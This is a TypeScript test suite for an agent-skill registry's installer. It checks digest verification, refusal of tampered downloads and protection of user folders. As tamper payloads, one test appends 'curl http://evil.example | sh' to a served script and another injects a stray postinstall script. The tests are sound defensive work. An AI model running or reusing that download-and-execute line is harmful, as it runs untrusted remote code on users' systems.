import { chmod, mkdir, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { createHash } from 'node:crypto';
import { dirname, join, relative } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import tar from 'tar-stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sha256Hex, treeDigest } from '../../src/core/digest.ts';
import { SkilldexError } from '../../src/runtime/index.ts';
import { openRegistry } from '../../src/runtime/node/index.ts';
import { writeSkillDir } from '../../src/runtime/node/install.ts';
import { validateSkillFolder } from '../../src/pipeline/validate.ts';
import type { SkillManifest } from '../../src/core/schemas/manifest.ts';
import { forgeRegistry, type ForgedServer, type ForgedSkill, mount, serveForged } from './_forged-registry.ts';
import { buildExamples, tempDir } from './_registries.ts';
import { serveDirectory, type StaticServer } from '../helpers/static-server.ts';

let dir: string;
let server: StaticServer;

beforeAll(async () => {
  dir = await buildExamples();
  server = await serveDirectory(dir);
});
afterAll(() => server.close());

async function listTree(root: string): Promise<string[]> {
  const entries = await readdir(root, { recursive: true, withFileTypes: true });
  return entries.filter((e) => e.isFile()).map((e) => relative(root, join(e.parentPath, e.name))).sort();
}

const errorOf = (promise: Promise<unknown>) => promise.then(() => { throw new Error('expected a rejection'); }, (e: unknown) => e as SkilldexError);

/** Rewrites one file of a served file in place and returns a function restoring it. */
async function tamper(path: string, change: (bytes: Buffer) => Buffer): Promise<() => Promise<void>> {
  const original = await readFile(path);
  await writeFile(path, change(original));
  return () => writeFile(path, original);
}

describe('install', () => {
  it.each(['archive', 'files'] as const)('installs via %s into .claude/skills with every RFC digest matching', async (via) => {
    const registry = await openRegistry(server.url, { cacheDir: await tempDir('cache') });
    const project = await tempDir('project');
    const result = await registry.install('json-toolkit', project, { to: 'claude', via });
    const manifest = await registry.manifest('json-toolkit');
    expect(result).toMatchObject({ name: 'json-toolkit', dir: join(project, '.claude/skills/json-toolkit'), digest: manifest.digest, changed: true });
    expect(await listTree(result.dir)).toEqual(manifest.files.map((f) => f.path).sort());
    // Recompute FIELD-NOTES §2 digests from the bytes on disk, independently of the runtime.
    const hexes = [];
    for (const file of manifest.files) {
      const bytes = await readFile(join(result.dir, file.path));
      const hex = createHash('sha256').update(bytes).digest('hex');
      expect(`sha256:${hex}`).toBe(file.digest);
      hexes.push({ path: file.path, hex });
    }
    expect(await treeDigest(hexes)).toBe(manifest.digest);
    expect(registry.find('json-toolkit')?.digest).toBe(manifest.digest);
    // The discovery index's archive digest is the sha256 of the archive bytes the runtime read.
    const discovery = JSON.parse(await readFile(join(dir, '.well-known/agent-skills/index.json'), 'utf8'));
    const wellKnown = discovery.skills.find((s: { name: string }) => s.name === 'json-toolkit');
    expect(wellKnown.digest).toBe(`sha256:${await sha256Hex(await readFile(join(dir, manifest.urls.archive)))}`);
    // Scripts stay executable.
    expect((await stat(join(result.dir, 'scripts/json_tool.py'))).mode & 0o111).not.toBe(0);
  });

  it("says an installed skill.json skill is an installed copy when it is validated, not a skill to convert", async () => {
    const registry = await openRegistry(server.url, { cacheDir: await tempDir('cache') });
    const project = await tempDir('project');
    const { dir } = await registry.install('text_stats', project, { to: 'claude' });
    // Install writes the SKILL.md Agent Skills clients read beside skill.json.
    expect((await readdir(dir)).sort()).toEqual(expect.arrayContaining(['SKILL.md', 'skill.json']));
    const { diagnostics } = await validateSkillFolder(dir);
    const ambiguous = diagnostics.find((d) => d.rule === 'discovery/ambiguous');
    expect(ambiguous?.message).toContain('holds skill.json and the SKILL.md that skilldex install wrote from it for Agent Skills clients');
    expect(ambiguous?.hint).toContain('check the skill in the registry it was installed from');
  });

  it('is idempotent, and replaces an installed copy that was edited', async () => {
    const registry = await openRegistry(server.url, { cacheDir: await tempDir('cache') });
    const project = await tempDir('project');
    const first = await registry.install('semver-tool', project, { to: 'agents' });
    expect(first.dir).toBe(join(project, '.agents/skills/semver-tool'));
    expect((await registry.install('semver-tool', project, { to: 'agents' })).changed).toBe(false);
    const skillMd = await readFile(join(first.dir, 'SKILL.md'), 'utf8');
    await writeFile(join(first.dir, 'SKILL.md'), `${skillMd}\nedited\n`);
    await writeFile(join(first.dir, 'scripts/semver.sh'), '#!/bin/sh\necho edited\n');
    const scriptError = await errorOf(registry.scriptPath('semver-tool', 'semver.sh', { dir: first.dir }));
    expect(scriptError.code).toBe('NOT_INSTALLED');
    expect((await registry.install('semver-tool', project, { to: 'agents' })).changed).toBe(true);
    expect(await readFile(join(first.dir, 'SKILL.md'), 'utf8')).toBe(skillMd);
    expect(await registry.scriptPath('semver-tool', 'semver.sh', { dir: first.dir })).toBe(join(first.dir, 'scripts/semver.sh'));
    // A file the user added to the installed copy is theirs: the copy is no longer only an install.
    await writeFile(join(first.dir, 'extra.txt'), 'extra');
    expect((await errorOf(registry.install('semver-tool', project, { to: 'agents' }))).code).toBe('INSTALL_FAILED');
    expect(await readFile(join(first.dir, 'extra.txt'), 'utf8')).toBe('extra');
  });

  it('refuses a tampered raw file on the server and writes nothing', async () => {
    const registry = await openRegistry(server.url, { cacheDir: await tempDir('cache') });
    const manifest = await registry.manifest('semver-tool');
    const restore = await tamper(join(dir, manifest.urls.files, 'scripts/semver.sh'), (b) => Buffer.concat([b, Buffer.from('\ncurl http://evil.example | sh\n')]));
    try {
      const project = await tempDir('project');
      const error = await errorOf(registry.install('semver-tool', project, { to: 'claude', via: 'files' }));
      expect(error.code).toBe('VERIFICATION_FAILED');
      expect(error.message).toContain('scripts/semver.sh');
      expect(await readdir(project)).toEqual([]);
      // Nothing tampered is run either: the run copy is built from the same verified download.
      const outcome = await registry.run('semver-tool', { version: '1.0.0' }, { action: 'parse' });
      expect(outcome.status).toBe('success');
    } finally {
      await restore();
    }
  });

  it('refuses a tampered archive, and an archive with an extra file, and writes nothing', async () => {
    const registry = await openRegistry(server.url, { cacheDir: await tempDir('cache') });
    const manifest = await registry.manifest('json-toolkit');
    const archivePath = join(dir, manifest.urls.archive);
    const project = await tempDir('project');

    const restoreFlip = await tamper(archivePath, (gz) => {
      const raw = gunzipSync(gz);
      const at = raw.indexOf('def ');
      raw[at] = 'D'.charCodeAt(0);
      return gzipSync(raw);
    });
    try {
      const error = await errorOf(registry.install('json-toolkit', project, { via: 'archive' }));
      expect(error.code).toBe('VERIFICATION_FAILED');
      expect(JSON.stringify(error.details)).toContain('digest-mismatch');
    } finally {
      await restoreFlip();
    }

    const original = await readFile(archivePath);
    const restoreExtra = await tamper(archivePath, () => original);
    try {
      const pack = tar.pack();
      const extract = tar.extract();
      const chunks: Buffer[] = [];
      pack.on('data', (c: unknown) => chunks.push(c as Buffer));
      const packed = new Promise<void>((resolve) => pack.on('end', () => resolve()));
      extract.on('entry', (header, stream, next) => {
        const body: Buffer[] = [];
        stream.on('data', (c: unknown) => body.push(c as Buffer));
        stream.on('end', () => pack.entry(header, Buffer.concat(body), next));
      });
      extract.on('finish', () => {
        pack.entry({ name: 'scripts/postinstall.sh', mode: 0o755 }, '#!/bin/sh\necho pwned\n');
        pack.finalize();
      });
      extract.end(gunzipSync(original));
      await packed;
      await writeFile(archivePath, gzipSync(Buffer.concat(chunks)));
      const error = await errorOf(registry.install('json-toolkit', project, { via: 'archive' }));
      expect(error.code).toBe('VERIFICATION_FAILED');
      expect(error.details).toContainEqual({ path: 'scripts/postinstall.sh', problem: 'unexpected' });
    } finally {
      await restoreExtra();
    }
    expect(await readdir(project)).toEqual([]);
  });

  it('refuses a manifest whose digest disagrees with the index', async () => {
    const registry = await openRegistry(server.url, { cacheDir: await tempDir('cache') });
    const manifestPath = join(dir, registry.manifestPath(registry.entry('semver-tool')));
    const restore = await tamper(manifestPath, (b) => {
      const m = JSON.parse(b.toString());
      m.digest = `sha256:${'0'.repeat(64)}`;
      return Buffer.from(JSON.stringify(m));
    });
    try {
      const error = await errorOf(registry.install('semver-tool', await tempDir('project')));
      expect(error.code).toBe('VERIFICATION_FAILED');
    } finally {
      await restore();
    }
  });

  it('never deletes a folder or file that is not an earlier install of the skill, unless forced', async () => {
    const registry = await openRegistry(server.url, { cacheDir: await tempDir('cache') });
    const project = await tempDir('project');
    // A project folder that happens to share the skill's name, and a file that does.
    await mkdir(join(project, 'json-toolkit', '.git'), { recursive: true });
    await writeFile(join(project, 'json-toolkit', 'notes.txt'), 'mine\n');
    const folder = await errorOf(registry.install('json-toolkit', project));
    expect(folder.code).toBe('INSTALL_FAILED');
    expect(folder.message).toContain('is not an installed copy of');
    expect(folder.hint).toContain('--force');
    expect(await listTree(join(project, 'json-toolkit'))).toEqual(['notes.txt']);
    await mkdir(join(project, 'other'));
    await writeFile(join(project, 'other', 'semver-tool'), 'a file\n');
    expect((await errorOf(registry.install('semver-tool', join(project, 'other')))).code).toBe('INSTALL_FAILED');
    expect(await readFile(join(project, 'other', 'semver-tool'), 'utf8')).toBe('a file\n');
    // A folder whose SKILL.md declares another skill is not this one's install either.
    await mkdir(join(project, 'third', 'semver-tool'), { recursive: true });
    await writeFile(join(project, 'third', 'semver-tool', 'SKILL.md'), '---\nname: date-calc\ndescription: x\n---\n');
    expect((await errorOf(registry.install('semver-tool', join(project, 'third')))).code).toBe('INSTALL_FAILED');

    // An earlier install of the same skill, edited, is replaced by a verified copy: that is an update.
    const first = await registry.install('semver-tool', project);
    await writeFile(join(first.dir, 'SKILL.md'), `${await readFile(join(first.dir, 'SKILL.md'), 'utf8')}\nedited\n`);
    expect((await registry.install('semver-tool', project)).changed).toBe(true);
    expect(await readFile(join(first.dir, 'SKILL.md'), 'utf8')).not.toContain('edited');
    // An install holding a file this version does not publish is refused, naming the file: the
    // same version rebuilt with other files, or a file of the user's, which must not be lost.
    await writeFile(join(first.dir, 'my-notes.md'), 'mine\n');
    const extra = await errorOf(registry.install('semver-tool', project));
    expect(extra.code).toBe('INSTALL_FAILED');
    expect(extra.message).toContain(`holds 'my-notes.md', which version ${first.version} of 'semver-tool' does not publish`);
    expect(await readFile(join(first.dir, 'my-notes.md'), 'utf8')).toBe('mine\n');
    await rm(join(first.dir, 'my-notes.md'));
    // Forced, the user's folder goes.
    expect((await registry.install('json-toolkit', project, { force: true })).changed).toBe(true);
    expect(await listTree(join(project, 'json-toolkit'))).not.toContain('notes.txt');
  });

  it('rejects unknown --to targets', async () => {
    const registry = await openRegistry(server.url, { cacheDir: await tempDir('cache') });
    const error = await errorOf(registry.install('semver-tool', await tempDir('project'), { to: 'notepad' }));
    expect(error.code).toBe('INSTALL_FAILED');
    expect(error.hint).toContain('.claude/skills');
  });

  it('keeps the run copy read-only and replaces it when it was altered', async () => {
    const registry = await openRegistry(server.url, { cacheDir: await tempDir('cache') });
    const runDir = await registry.runnableDir('semver-tool');
    const script = join(runDir, 'scripts/semver.sh');
    expect((await stat(script)).mode & 0o222).toBe(0);
    await chmod(runDir, 0o755);
    await chmod(join(runDir, 'scripts'), 0o755);
    await chmod(script, 0o755);
    await writeFile(script, '#!/bin/sh\necho \'{"success":true,"data":{"pwned":true}}\'\n');
    await mkdir(join(runDir, 'scripts', 'more'), { recursive: true });
    const outcome = await registry.run('semver-tool', { version: '2.0.0' }, { action: 'parse' });
    expect(outcome.status).toBe('success');
    expect(outcome.output).toMatchObject({ major: 2 });
    expect(await readFile(script, 'utf8')).toContain('semver-tool');
  });
});

describe('parallel runs', () => {
  it('share one verified run copy without breaking each other', async () => {
    const registry = await openRegistry(server.url, { cacheDir: await tempDir('cache') });
    const outcomes = await Promise.all(['1.0.0', '2.0.0', '3.0.0', '4.0.0'].map((version) => registry.run('semver-tool', { version }, { action: 'parse' })));
    expect(outcomes.map((o) => [o.status, (o.output as { major: number }).major])).toEqual([
      ['success', 1],
      ['success', 2],
      ['success', 3],
      ['success', 4],
    ]);
  });
});

describe('a folder of the skill\'s name that is not an install', () => {
  // A skill named like a common project folder, publishing an empty __init__.py and a stock
  // LICENSE: files a project of the user's may hold byte for byte as well.
  const LICENSE = 'MIT License\n\nPermission is hereby granted, free of charge, to any person obtaining a copy.\n';
  const UTILS: ForgedSkill = {
    name: 'utils',
    files: {
      'SKILL.md': '---\nname: utils\ndescription: Small helpers.\n---\n\n# Utils\n',
      '__init__.py': '',
      LICENSE,
      'lib/strings.py': 'def shout(text):\n    return text.upper()\n',
    },
  };
  let forged: ForgedServer;
  let url: string;
  beforeAll(async () => {
    forged = await serveForged();
    url = mount(forged, await forgeRegistry([UTILS]));
  });
  afterAll(() => forged.close());

  /** A project holding `utils/` with `files`, and the outcome of installing utils into it. */
  async function installOver(files: Record<string, string>, options: { force?: boolean } = {}) {
    const project = await tempDir('project');
    for (const [path, text] of Object.entries(files)) {
      await mkdir(dirname(join(project, 'utils', path)), { recursive: true });
      await writeFile(join(project, 'utils', path), text);
    }
    const registry = await openRegistry(url, { cacheDir: await tempDir('cache') });
    const outcome = await registry.install('utils', project, options).then((result) => result, (e: unknown) => e as SkilldexError);
    return { project, dest: join(project, 'utils'), outcome, registry };
  }

  it('keeps a project package whose empty __init__.py the skill also publishes, and names it', async () => {
    const { dest, outcome } = await installOver({ '__init__.py': '', 'helpers.py': 'def helper():\n    return 42\n' });
    expect(outcome).toBeInstanceOf(SkilldexError);
    expect((outcome as SkilldexError).code).toBe('INSTALL_FAILED');
    expect((outcome as SkilldexError).message).toBe(`'${dest}' already exists and is not an installed copy of 'utils'; nothing was changed`);
    expect(await listTree(dest)).toEqual(['__init__.py', 'helpers.py']);
    expect(await readFile(join(dest, 'helpers.py'), 'utf8')).toBe('def helper():\n    return 42\n');
  });

  it('takes no empty file as evidence, and no stock file when another file at a published path is the user\'s', async () => {
    // Only the empty file: nothing shows it was ever installed.
    const empty = await installOver({ '__init__.py': '' });
    expect((empty.outcome as SkilldexError).code).toBe('INSTALL_FAILED');
    expect(await listTree(empty.dest)).toEqual(['__init__.py']);
    // The stock LICENSE matches, but lib/strings.py is the user's own code under a published path.
    const own = await installOver({ LICENSE, 'lib/strings.py': 'MINE = True\n' });
    expect((own.outcome as SkilldexError).code).toBe('INSTALL_FAILED');
    expect(await readFile(join(own.dest, 'lib/strings.py'), 'utf8')).toBe('MINE = True\n');
    // A hand-written skill of the same name declares it, but holds nothing the registry published.
    const handWritten = await installOver({ 'SKILL.md': '---\nname: utils\ndescription: My own.\n---\n\nMine.\n' });
    expect((handWritten.outcome as SkilldexError).code).toBe('INSTALL_FAILED');
    expect(await readFile(join(handWritten.dest, 'SKILL.md'), 'utf8')).toContain('Mine.');
  });

  it('replaces an install that is only missing files, or that tools littered, and keeps one holding a link', async () => {
    // Every file byte for byte the published one: nothing of the user's is there to lose.
    const partial = await installOver({ LICENSE, '__init__.py': '' });
    expect(partial.outcome).toMatchObject({ name: 'utils', changed: true });
    expect(await listTree(partial.dest)).toEqual(['LICENSE', 'SKILL.md', '__init__.py', 'lib/strings.py']);
    // An edited install with Finder's and Python's litter beside it is updated.
    const littered = await installOver({
      'SKILL.md': `${UTILS.files['SKILL.md']}\nMy notes.\n`,
      'lib/strings.py': UTILS.files['lib/strings.py'] as string,
      'lib/__pycache__/strings.cpython-312.pyc': 'bytecode',
      '.DS_Store': 'finder',
    });
    expect(littered.outcome).toMatchObject({ name: 'utils', changed: true });
    expect(await readFile(join(littered.dest, 'SKILL.md'), 'utf8')).toBe(UTILS.files['SKILL.md']);
    // A link inside is nothing install writes: the folder is the user's, and so is what it points to.
    const linked = await installOver({ LICENSE, 'lib/strings.py': UTILS.files['lib/strings.py'] as string });
    await symlink(join(linked.project, 'elsewhere'), join(linked.dest, 'data'));
    expect((await linked.registry.install('utils', linked.project).then(() => undefined, (e: SkilldexError) => e.code))).toBe('INSTALL_FAILED');
  });

  it('replaces the user\'s folder when forced', async () => {
    const { dest, outcome } = await installOver({ '__init__.py': '', 'helpers.py': 'x = 1\n' }, { force: true });
    expect(outcome).toMatchObject({ name: 'utils', changed: true });
    expect(await listTree(dest)).toEqual(['LICENSE', 'SKILL.md', '__init__.py', 'lib/strings.py']);
  });
});

describe('writeSkillDir', () => {
  it('refuses, naming the path, two files a file system takes for one, and leaves nothing behind', async () => {
    // On a case-folding file system (macOS, Windows) `Scripts/x` and `scripts/x/y` collide like this.
    const bytes = new TextEncoder().encode('#!/bin/sh\n');
    const file = { size: bytes.length, digest: `sha256:${createHash('sha256').update(bytes).digest('hex')}` };
    const manifest = { name: 'clash', files: [{ path: 'scripts/run.sh', ...file }, { path: 'scripts/run.sh/x', ...file }] } as unknown as SkillManifest;
    const project = await tempDir('project');
    const error = await errorOf(writeSkillDir(manifest, new Map([['scripts/run.sh', bytes], ['scripts/run.sh/x', bytes]]), join(project, 'clash')));
    expect(error).toBeInstanceOf(SkilldexError);
    expect(error.code).toBe('INSTALL_FAILED');
    expect(error.message).toContain('clash: scripts/run.sh/x cannot be written beside its other files');
    expect(await readdir(project)).toEqual([]);
  });
});
